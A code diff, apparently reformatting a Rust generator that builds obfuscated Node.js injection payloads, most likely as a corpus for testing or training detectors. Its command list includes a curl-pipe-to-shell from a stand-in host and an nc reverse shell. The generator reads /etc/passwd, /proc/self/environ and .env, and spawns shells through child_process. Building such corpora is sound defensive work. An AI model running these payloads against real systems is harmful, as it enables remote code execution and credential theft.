@@ -10,7 +10,16 @@ use crate::{Carrier, Family, Rng, Variant};
 
 pub struct NodeJs;
 
-const COMMANDS: &[&str] = &["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "curl http://evil.example/s|sh", "nc -e /bin/sh 6.6.6.6 4444", "ping -c 3 oast.example"];
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "cat /etc/passwd",
+    "uname -a",
+    "ls -la /",
+    "curl http://evil.example/s|sh",
+    "nc -e /bin/sh 6.6.6.6 4444",
+    "ping -c 3 oast.example",
+];
 
 /// A module name as a string literal, built the way obfuscators do.
 fn module(rng: &mut Rng, name: &str) -> (String, &'static str) {
@@ -21,7 +30,15 @@ fn module(rng: &mut Rng, name: &str) -> (String, &'static str) {
             (format!("{q}{}{q}+{q}{}{q}", &name[..cut], &name[cut..]), "concat")
         }
         1 => (format!("String.fromCharCode({})", name.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")), "fromcharcode"),
-        2 => (format!("{q}{}{q}", name.chars().map(|c| if c.is_ascii_alphabetic() && c < 'm' { format!("\\x{:02x}", c as u32) } else { c.to_string() }).collect::<String>()), "hex-escape"),
+        2 => (
+            format!(
+                "{q}{}{q}",
+                name.chars()
+                    .map(|c| if c.is_ascii_alphabetic() && c < 'm' { format!("\\x{:02x}", c as u32) } else { c.to_string() })
+                    .collect::<String>()
+            ),
+            "hex-escape",
+        ),
         3 => (format!("Buffer.from('{}','base64').toString()", super::xss_js::base64(name)), "base64"),
         _ => (format!("{q}{name}{q}"), "plain"),
     }
@@ -47,9 +64,28 @@ fn action(rng: &mut Rng) -> (String, &'static str) {
     match rng.below(8) {
         0 | 1 => (format!("{}({cp}).{}('{cmd}')", "{L}", rng.pick(&["exec", "execSync", "spawnSync", "execFileSync"])), how),
         2 => (format!("{}({cp})['exec']('{cmd}')", "{L}"), how),
-        3 => (format!("{}('fs').readFileSync('{}'){}", "{L}", rng.pick(&["/etc/passwd", "/proc/self/environ", ".env", "../config.json"]), rng.pick(&["", ".toString()"])), "fs-read"),
-        4 => (format!("{}('fs').{}('{}','x')", "{L}", rng.pick(&["writeFileSync", "appendFileSync"]), rng.pick(&["/tmp/x.js", "./public/s.js"])), "fs-write"),
-        5 => (format!("process.binding('spawn_sync').spawn({{file:'/bin/sh',args:['sh','-c','{cmd}'],stdio:[{{type:'pipe',readable:1}}]}})"), "process-binding"),
+        3 => (
+            format!(
+                "{}('fs').readFileSync('{}'){}",
+                "{L}",
+                rng.pick(&["/etc/passwd", "/proc/self/environ", ".env", "../config.json"]),
+                rng.pick(&["", ".toString()"])
+            ),
+            "fs-read",
+        ),
+        4 => (
+            format!(
+                "{}('fs').{}('{}','x')",
+                "{L}",
+                rng.pick(&["writeFileSync", "appendFileSync"]),
+                rng.pick(&["/tmp/x.js", "./public/s.js"])
+            ),
+            "fs-write",
+        ),
+        5 => (
+            format!("process.binding('spawn_sync').spawn({{file:'/bin/sh',args:['sh','-c','{cmd}'],stdio:[{{type:'pipe',readable:1}}]}})"),
+            "process-binding",
+        ),
         6 => (format!("import({cp}).then(m=>m.execSync('{cmd}'))"), "dynamic-import"),
         _ => (format!("{}({cp}).spawn('{}',['-c','{cmd}'])", "{L}", rng.pick(&["sh", "/bin/bash", "cmd.exe"])), how),
     }
